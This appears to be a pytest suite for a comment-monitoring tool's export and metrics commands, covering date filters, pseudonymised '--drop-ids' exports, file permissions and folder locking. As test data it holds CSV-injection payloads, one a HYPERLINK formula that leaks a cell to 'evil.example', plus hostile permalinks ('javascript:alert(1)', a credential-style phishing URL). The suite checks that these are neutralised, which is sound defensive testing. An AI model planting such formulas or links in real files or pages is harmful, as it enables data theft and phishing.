"""`civmon export` and `civmon metrics` through the real command, on a seeded database."""

from __future__ import annotations

import csv
import fcntl
import os
import stat

import pyarrow.parquet as pq
import pytest
from sqlalchemy import select, update

from monitor.metrics.rollups import rebuild
from monitor.records import CommunityRef
from monitor.store.db import transaction
from monitor.store.models import Comment, Score

from conftest import civmon
from seed import DAY, MODEL, MONDAY, Seed, seed


def civmon_on(tmp_path, db_url, *args, keep_bodies=True):
    env = {"CIVMON_DATABASE__URL": db_url, "CIVMON_PRIVACY__KEEP_BODIES": str(keep_bodies).lower()}
    return civmon(tmp_path, *args, env=env)


def seeded(engine):
    seed(
        engine,
        [Seed(f"c{i}", MONDAY + i * 3600, 0.1 * (i % 10), author=f"user{i % 3}") for i in range(48)]
        + [Seed("unscored", MONDAY + 5, None)],
    )
    rebuild(engine, MODEL)


def test_export_csv_and_parquet_with_dictionary(engine, db_url, tmp_path):
    seeded(engine)
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--since", "2023-11-20", "--until", "2023-11-21")
    assert result.returncode == 0, result.stderr
    out = tmp_path / "out"
    with (out / "comments.csv").open() as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 25  # 24 hourly comments on the first day, and the unscored one
    assert {r["comment_id"] for r in rows} >= {"c0", "c23", "unscored"} and "c24" not in {r["comment_id"] for r in rows}
    scored = next(r for r in rows if r["comment_id"] == "c3")
    assert float(scored["hostility"]) == 0.1 * 3 and scored["model_version"] == MODEL and scored["body"] == "text of c3"
    assert scored["author"] == "user0" and scored["insult"] == "" and scored["skip_reason"] == ""
    unscored = next(r for r in rows if r["comment_id"] == "unscored")  # told apart from a scored row
    assert unscored["hostility"] == "" and unscored["skip_reason"] == "not scored yet by this model version"
    assert f"1 comments are not scored yet by {MODEL}" in result.stdout and "run `civmon score`" in result.stdout
    table = pq.read_table(out / "comments.parquet")
    assert table.num_rows == 25 and table.schema.field("hostility").type == "double"
    rollups = pq.read_table(out / "rollups.parquet").to_pylist()
    day = next(r for r in rollups if r["bucket"] == "day" and r["start_utc"] == MONDAY)
    assert (day["comments"], day["scored"]) == (25, 24) and day["hostility_low"] < day["hostility"] < day[
        "hostility_high"
    ]
    # the day's buckets; the week is cut by --until, so it is left out, as are the second day's hours
    assert sorted({(r["bucket"], r["start_utc"]) for r in rollups}) == sorted(
        [("day", MONDAY), *(("hour", MONDAY + h * 3600) for h in range(24))]
    )
    dictionary = (out / "DATA_DICTIONARY.md").read_text()
    assert "| author | the author as the store keeps it" in dictionary and "Wilson" in dictionary
    assert "this store holds user names (collected with [privacy] pseudonymise_authors = false)" in dictionary
    assert "Only buckets wholly inside the export's period" in dictionary
    assert "exporting: 25 comments written" in result.stderr  # progress, off stdout where no terminal shows it


def test_export_leaves_bodies_out_unless_kept(engine, db_url, tmp_path):
    seeded(engine)
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--format", "csv", keep_bodies=False)
    assert result.returncode == 0, result.stderr
    header = (tmp_path / "out" / "comments.csv").read_text().splitlines()[0]
    assert "body" not in header.split(",") and not (tmp_path / "out" / "comments.parquet").exists()
    assert "| body |" not in (tmp_path / "out" / "DATA_DICTIONARY.md").read_text()


def test_export_of_an_unscored_store_says_what_to_do(engine, db_url, tmp_path):
    result = civmon_on(tmp_path, db_url, "export", "--out", "out")
    assert result.returncode == 2 and "civmon score" in result.stderr


def test_metrics_command_refreshes_rollups(engine, db_url, tmp_path):
    seed(engine, [Seed(f"c{i}", MONDAY + i * DAY // 4, 0.2) for i in range(12)])
    result = civmon_on(tmp_path, db_url, "metrics")
    assert result.returncode == 0, result.stderr
    assert f"rollups for {MODEL}:" in result.stdout and "0 new alerts" in result.stdout


# Text cells a spreadsheet runs as formulas (OWASP's list), and a quote, which would be ambiguous otherwise
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1"]
# after leading whitespace, which an import may trim: space, line breaks, no-break and ideographic spaces
HOSTILE += [" =1+1", "\n=1+1", "  +1", "\r\n@SUM(1)", "\u00a0=1", "\u3000-1", " \t=1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_led(cell: str) -> bool:
    """Whether a spreadsheet could read `cell` as a formula once leading whitespace is trimmed."""
    return cell.lstrip().startswith(TRIGGERS) or cell.startswith(TRIGGERS)


def seed_hostile(engine):
    """One comment per hostile text, carrying it in every text column the internet fills: ids, author, body,
    permalink, language and skip reason; scored hostile, so its alliance index is negative."""
    ids = [f"{text[:24]}#{i}" for i, text in enumerate(HOSTILE)]
    seed(
        engine,
        [Seed(cid, MONDAY + i, 0.9, thread=cid, author=cid, respect=0.1, warmth=0.2) for i, cid in enumerate(ids)],
    )
    with transaction(engine) as session:
        for cid, text in zip(ids, HOSTILE, strict=True):
            comment = session.scalars(select(Comment).where(Comment.platform_id == cid)).one()
            comment.body, comment.permalink = text, text
            session.execute(
                update(Score).where(Score.comment_id == comment.id).values(language=text[:16], skip_reason=text)
            )
    rebuild(engine, MODEL)
    return ids


def test_csv_cells_cannot_run_as_formulas(engine, db_url, tmp_path):
    ids = seed_hostile(engine)
    result = civmon_on(tmp_path, db_url, "export", "--out", "out")
    assert result.returncode == 0, result.stderr
    out = tmp_path / "out"
    for name in ("comments", "rollups"):
        with (out / f"{name}.csv").open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        raw = pq.read_table(out / f"{name}.parquet")  # Parquet keeps the raw text
        text = {f.name for f in raw.schema if f.type == "string"}
        assert rows and not [row[c] for row in rows for c in text if formula_led(row[c])]
        assert [float(row[c]) for row in rows for c in set(row) - text if row[c]]  # the rest are numbers
        for row, original in zip(rows, raw.to_pylist(), strict=True):  # one ' off gives back the exact text
            assert {c: row[c][1:] if row[c].startswith("'") else row[c] for c in text} == {
                c: original[c] or "" for c in text
            }
    with (out / "comments.csv").open(newline="", encoding="utf-8") as handle:
        comments = list(csv.DictReader(handle))
    assert {r["body"] for r in comments} == {"'" + text for text in HOSTILE}
    assert {r["comment_id"] for r in comments} == {"'" + cid for cid in ids}
    assert all(float(r["alliance"]) == pytest.approx(-0.75) and float(r["hostility"]) == 0.9 for r in comments)
    assert "CSV injection" in (out / "DATA_DICTIONARY.md").read_text()


def seed_threads(engine):
    """Two threads, a reply and a reply to it; times off the hour; permalinks as a collector stores them."""
    seed(
        engine,
        [
            Seed("c0", MONDAY + 61, 0.2, author="ann"),
            Seed("r1", MONDAY + 3_700, 0.4, parent="c0", depth=1, author="bob"),
            Seed("r2", MONDAY + 7_322, 0.6, parent="r1", depth=2, author="ann"),
            Seed("d0", MONDAY + 90, 0.1, thread="t2", author="cat"),
        ],
    )
    with transaction(engine) as session:
        session.execute(update(Comment).values(permalink="https://reddit.com/r/seeded/comments/" + Comment.platform_id))


def comments_csv(folder):
    with (folder / "comments.csv").open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_drop_ids_exports_nothing_that_leads_back_to_a_comment(engine, db_url, tmp_path):
    seed_threads(engine)
    for out in ("a", "b"):
        result = civmon_on(tmp_path, db_url, "export", "--out", out, "--drop-ids")
        assert result.returncode == 0, result.stderr
    rows = comments_csv(tmp_path / "a")
    assert "permalink" not in rows[0] and "body" not in rows[0]
    cells = {v for r in rows for v in r.values()}
    assert not cells & {"c0", "r1", "r2", "d0", "t1", "t2", "ann", "bob", "cat"}
    assert all(int(r["created_utc"]) % 3600 == 0 for r in rows)
    # the structure survives: replies point at their parents, top-level comments at their threads, one author one id
    by_depth = {int(r["depth"]): r for r in rows if r["thread_id"] == rows[0]["thread_id"]}
    assert by_depth[0]["parent_id"] == by_depth[0]["thread_id"]
    assert (
        by_depth[1]["parent_id"] == by_depth[0]["comment_id"] and by_depth[2]["parent_id"] == by_depth[1]["comment_id"]
    )
    assert by_depth[0]["author"] == by_depth[2]["author"] != by_depth[1]["author"]
    assert len({r["thread_id"] for r in rows}) == 2 and len({r["author"] for r in rows}) == 3
    # and links to nothing outside this export, not even to another export of the same data
    assert not {r["comment_id"] for r in rows} & {r["comment_id"] for r in comments_csv(tmp_path / "b")}
    parquet = pq.read_table(tmp_path / "a" / "comments.parquet")
    assert "permalink" not in parquet.column_names and set(parquet.column("comment_id").to_pylist()).isdisjoint(
        {"c0", "r1", "r2", "d0"}
    )
    assert "`--drop-ids`, for sharing" in (tmp_path / "a" / "DATA_DICTIONARY.md").read_text()


def test_an_export_to_keep_says_which_columns_re_identify(engine, db_url, tmp_path):
    seed_threads(engine)
    result = civmon_on(tmp_path, db_url, "export", "--out", "out")
    assert result.returncode == 0, result.stderr
    rows = comments_csv(tmp_path / "out")
    assert {r["comment_id"] for r in rows} == {"c0", "r1", "r2", "d0"} and rows[0]["permalink"].startswith("https://")
    dictionary = (tmp_path / "out" / "DATA_DICTIONARY.md").read_text()
    assert "`comment_id`, `thread_id`, `parent_id` and `permalink` re-identify an author with one lookup" in dictionary
    assert "--drop-ids" in dictionary


# small numbers (once read as seconds after 1970: no filter at all), milliseconds, words, impossible dates
NOT_MOMENTS = ["-1", "0", "20", "202311", "1700438400000", "yesterday", "2023-13-01", "2023-11-20T25:00", ""]


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--community", "nosuch"], ["no community nosuch", "stored communities: reddit/seeded"]),
        (["--community", "seeded", "--community", "nosuch"], ["no community nosuch", "reddit/seeded"]),
        (["--since", "2023-11-22", "--until", "2023-11-21"], ["is not before --until", "swap them"]),
        (["--since", "2023-11-21", "--until", "2023-11-21"], ["is not before --until"]),
        (["--model-version", "nosuch"], ["model version nosuch scored no comment", f"versions with scores: {MODEL}"]),
        (["--since", "2030-01-01"], ["no comments in the period", "run from 2023-11-20 00:00 UTC to 2023-11-21"]),
        (["--until", "2020-01-01"], ["no comments in the period", "run from 2023-11-20"]),
        (["--since", "2020", "--until", "2019"], ["--since 2020-01-01 00:00 UTC is not before --until 2019-01-01"]),
        (["--since", "2024"], ["no comments in the period"]),
        *((["--since", bad], [f"--since '{bad}' is not a date or time", "epoch seconds"]) for bad in NOT_MOMENTS),
        (["--until", "-1"], ["--until '-1' is not a date or time"]),
    ],
)
def test_filters_that_match_nothing_are_refused_with_what_exists(engine, db_url, tmp_path, args, said):
    seeded(engine)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "comments.csv").write_text("an earlier export\n")
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", *args)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert all(s in result.stderr for s in said), result.stderr
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["comments.csv"]
    assert (tmp_path / "out" / "comments.csv").read_text() == "an earlier export\n"


@pytest.mark.parametrize(
    ("out", "said"), [("taken", "--out taken is a file"), ("taken/sub", "cannot create the folder")]
)
def test_an_out_that_is_not_a_folder_is_refused(engine, db_url, tmp_path, out, said):
    seeded(engine)
    (tmp_path / "taken").write_text("keep me\n")
    result = civmon_on(tmp_path, db_url, "export", "--out", out)
    assert result.returncode == 2 and "Traceback" not in result.stderr and said in result.stderr, result.stderr
    assert (tmp_path / "taken").read_text() == "keep me\n"


def test_an_export_replaces_the_previous_one_whole(engine, db_url, tmp_path):
    seed(engine, [Seed("c0", MONDAY, 0.3)])  # no rollups yet: their files still come, with a header
    assert civmon_on(tmp_path, db_url, "export", "--out", "out").returncode == 0
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--format", "csv", "--drop-ids")
    assert result.returncode == 0, result.stderr
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert names == ["DATA_DICTIONARY.md", "comments.csv", "rollups.csv"]  # no parquet of the earlier export
    assert (tmp_path / "out" / "rollups.csv").read_text().startswith('"community","bucket"')


@pytest.mark.parametrize(
    "stored",
    ["https://www.reddit.com@evil.example/phish", "javascript:alert(1)", "//evil.example/x", "http://evil.example/"],
)
def test_permalinks_are_built_from_ids_not_taken_from_the_store(engine, db_url, tmp_path, stored):
    seed_threads(engine)  # a database written before links were built from ids may hold any permalink
    with transaction(engine) as session:
        session.execute(update(Comment).values(permalink=stored))
    assert civmon_on(tmp_path, db_url, "export", "--out", "out").returncode == 0
    rows = comments_csv(tmp_path / "out")
    assert {r["permalink"] for r in rows} == {
        f"https://www.reddit.com/r/{r['community'].partition('/')[2]}/comments/{r['thread_id']}/_/{r['comment_id']}/"
        for r in rows
    }


def export_cells(folder):
    """Every cell of every table, CSV and Parquet."""
    cells = set()
    for name in ("comments", "rollups"):
        with (folder / f"{name}.csv").open(newline="", encoding="utf-8") as handle:
            cells |= {v for row in csv.DictReader(handle) for v in row.values()}
        cells |= {str(v) for row in pq.read_table(folder / f"{name}.parquet").to_pylist() for v in row.values()}
    return cells


@pytest.mark.parametrize("user", ["someone", "Some-One_2"])
def test_drop_ids_pseudonymises_a_users_profile_community(engine, db_url, tmp_path, user):
    """`reddit/u_NAME` names its user: --drop-ids re-keys the name, the same in comments and rollups."""
    seed(engine, [Seed("p0", MONDAY + 61, 0.2), Seed("p1", MONDAY + 4_000, 0.3)], CommunityRef("reddit", f"u_{user}"))
    seed(engine, [Seed("s0", MONDAY + 90, 0.1, thread="t2")])
    rebuild(engine, MODEL)
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--drop-ids")
    assert result.returncode == 0, result.stderr
    cells = export_cells(tmp_path / "out")
    assert not [cell for cell in cells if user.lower() in cell.lower()]
    communities = {r["community"] for r in comments_csv(tmp_path / "out")}
    profile = {c for c in communities if c.startswith("reddit/u_")}
    assert len(profile) == 1 and communities - profile == {"reddit/seeded"}  # other names stay as they are
    with (tmp_path / "out" / "rollups.csv").open(newline="", encoding="utf-8") as handle:
        assert {r["community"] for r in csv.DictReader(handle)} == communities
    kept = civmon_on(tmp_path, db_url, "export", "--out", "kept")  # an export to keep names it
    assert kept.returncode == 0, kept.stderr
    assert f"reddit/u_{user}" in export_cells(tmp_path / "kept")


@pytest.mark.parametrize("drop_ids", [False, True])
def test_export_files_are_private(engine, db_url, tmp_path, drop_ids):
    """Bodies and pseudonyms are as private as the database and key: files 0600, a folder it makes 0700."""
    seeded(engine)
    result = civmon_on(tmp_path, db_url, "export", "--out", "new/out", *(["--drop-ids"] if drop_ids else []))
    assert result.returncode == 0, result.stderr
    folder = tmp_path / "new" / "out"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    files = {path.name: stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()}
    assert files == dict.fromkeys(
        ["comments.csv", "comments.parquet", "rollups.csv", "rollups.parquet", "DATA_DICTIONARY.md"], 0o600
    )


@pytest.mark.parametrize(
    "since",
    ["2023-11-21", "2023-11-21T00:00", "2023-11-21 00:00:00", "2023-11-21T00:00Z", "2023-11-21T02:00+02:00",
     "2023-11-20T19:00-05:00", str(MONDAY + DAY)],
)  # fmt: skip
def test_since_and_until_read_dates_times_offsets_years_and_epoch_seconds(engine, db_url, tmp_path, since):
    """The seeded comments are hourly from Monday 00:00 UTC: every spelling of Tuesday 00:00 UTC keeps the last 24."""
    seeded(engine)
    result = civmon_on(tmp_path, db_url, "export", "--out", "day", "--since", since, "--until", "2024")
    assert result.returncode == 0, result.stderr
    rows = comments_csv(tmp_path / "day")
    assert len(rows) == 24 and min(int(r["created_utc"]) for r in rows) == MONDAY + DAY


@pytest.mark.parametrize("community", ["seeded", "SEEDED", "reddit/Seeded", "Reddit/seeded"])
def test_community_filter_ignores_case(engine, db_url, tmp_path, community):
    """Reddit's names are case-insensitive, as the store finds them: --community finds r/seeded in any case."""
    seeded(engine)
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--community", community, "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert {r["community"] for r in comments_csv(tmp_path / "out")} == {"reddit/seeded"}


def test_a_folder_of_other_files_is_refused_and_an_earlier_export_is_replaced(engine, db_url, tmp_path):
    """An export replaces comments.* and rollups.*: in a folder that is not an earlier export, those are the
    user's own files."""
    seeded(engine)
    (tmp_path / "research").mkdir()
    (tmp_path / "research" / "comments.csv").write_text("my,own,data\n")
    result = civmon_on(tmp_path, db_url, "export", "--out", "research")
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert "--out research holds files that are not a civmon export (comments.csv)" in result.stderr
    assert [p.name for p in (tmp_path / "research").iterdir()] == ["comments.csv"]
    assert (tmp_path / "research" / "comments.csv").read_text() == "my,own,data\n"
    assert civmon_on(tmp_path, db_url, "export", "--out", "out").returncode == 0
    (tmp_path / "out" / "notes.md").write_text("the researcher's notes on this export\n")
    assert civmon_on(tmp_path, db_url, "export", "--out", "out", "--format", "csv").returncode == 0
    assert (tmp_path / "out" / "notes.md").exists() and not (tmp_path / "out" / "comments.parquet").exists()


def test_a_killed_export_s_scratch_folder_goes_with_the_next_export(engine, db_url, tmp_path):
    """A run killed mid-write (SIGKILL, a power cut) leaves its scratch folder, with ids, permalinks and bodies:
    a later --drop-ids export into the folder, made to be shared, must not carry it along."""
    seeded(engine)
    assert civmon_on(tmp_path, db_url, "export", "--out", "out").returncode == 0
    dead = tmp_path / "out" / ".export-k1lled"
    dead.mkdir()
    (dead / "comments.csv").write_text("c3,https://www.reddit.com/r/seeded/comments/t/_/c3/,text of c3\n")
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--drop-ids")
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "DATA_DICTIONARY.md",
        *(f"{t}.{f}" for t in ("comments", "rollups") for f in ("csv", "parquet")),
    ]


def test_a_folder_that_cannot_take_the_export_is_a_clear_error(engine, db_url, tmp_path):
    seeded(engine)
    assert civmon_on(tmp_path, db_url, "export", "--out", "out").returncode == 0
    (tmp_path / "out" / "comments.csv").unlink()
    (tmp_path / "out" / "comments.csv").mkdir()  # a folder where the export's file goes
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--format", "csv")
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert "cannot write the export into out: Is a directory" in result.stderr


def test_a_second_export_into_the_same_folder_waits_its_turn(engine, db_url, tmp_path):
    """The running export holds a lock on the folder (flock, as a second civmon would find it)."""
    seeded(engine)
    (tmp_path / "out").mkdir()
    descriptor = os.open(tmp_path / "out", os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.flock(descriptor, fcntl.LOCK_EX)
        result = civmon_on(tmp_path, db_url, "export", "--out", "out")
    finally:
        os.close(descriptor)
    assert result.returncode == 2 and "another civmon export is writing into out" in result.stderr
    assert list((tmp_path / "out").iterdir()) == []


def test_rollups_cover_the_period_of_the_comments_and_no_more(engine, db_url, tmp_path):
    """--since and --until cutting hours: only the hours wholly inside, whose comments are all in the export."""
    seeded(engine)
    args = ("--since", "2023-11-20T05:30", "--until", "2023-11-20T10:00", "--format", "csv")
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", *args)
    assert result.returncode == 0, result.stderr
    exported = {r["comment_id"] for r in comments_csv(tmp_path / "out")}
    assert exported == {"c6", "c7", "c8", "c9"}
    with (tmp_path / "out" / "rollups.csv").open(newline="", encoding="utf-8") as handle:
        rollups = list(csv.DictReader(handle))
    assert [(r["bucket"], int(r["start_utc"])) for r in rollups] == [("hour", MONDAY + h * 3600) for h in (6, 7, 8, 9)]
    assert sum(int(r["comments"]) for r in rollups) == len(exported)


def test_rollups_count_the_exported_comments_when_metrics_did_not_run_since_scoring(engine, db_url, tmp_path):
    """import, score, export: the stored rollups are older than the scores, the export's are not."""
    seeded(engine)  # rolled up
    seed(engine, [Seed(f"late{i}", MONDAY + i * 3600 + 60, 0.9, first_seen=10**10) for i in range(24)])  # not yet
    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--format", "csv", "--until", "2023-11-21")
    assert result.returncode == 0, result.stderr
    with (tmp_path / "out" / "rollups.csv").open(newline="", encoding="utf-8") as handle:
        rollups = list(csv.DictReader(handle))
    exported = comments_csv(tmp_path / "out")
    day = next(r for r in rollups if r["bucket"] == "day")
    assert int(day["comments"]) == len(exported) == 49 and int(day["scored"]) == 48
    one = next(r for r in rollups if r["bucket"] == "hour" and int(r["start_utc"]) == MONDAY + 3600)
    assert float(one["hostility_low"]) >= 0 and float(one["hostility_high"]) <= 1  # two scores: a clipped interval
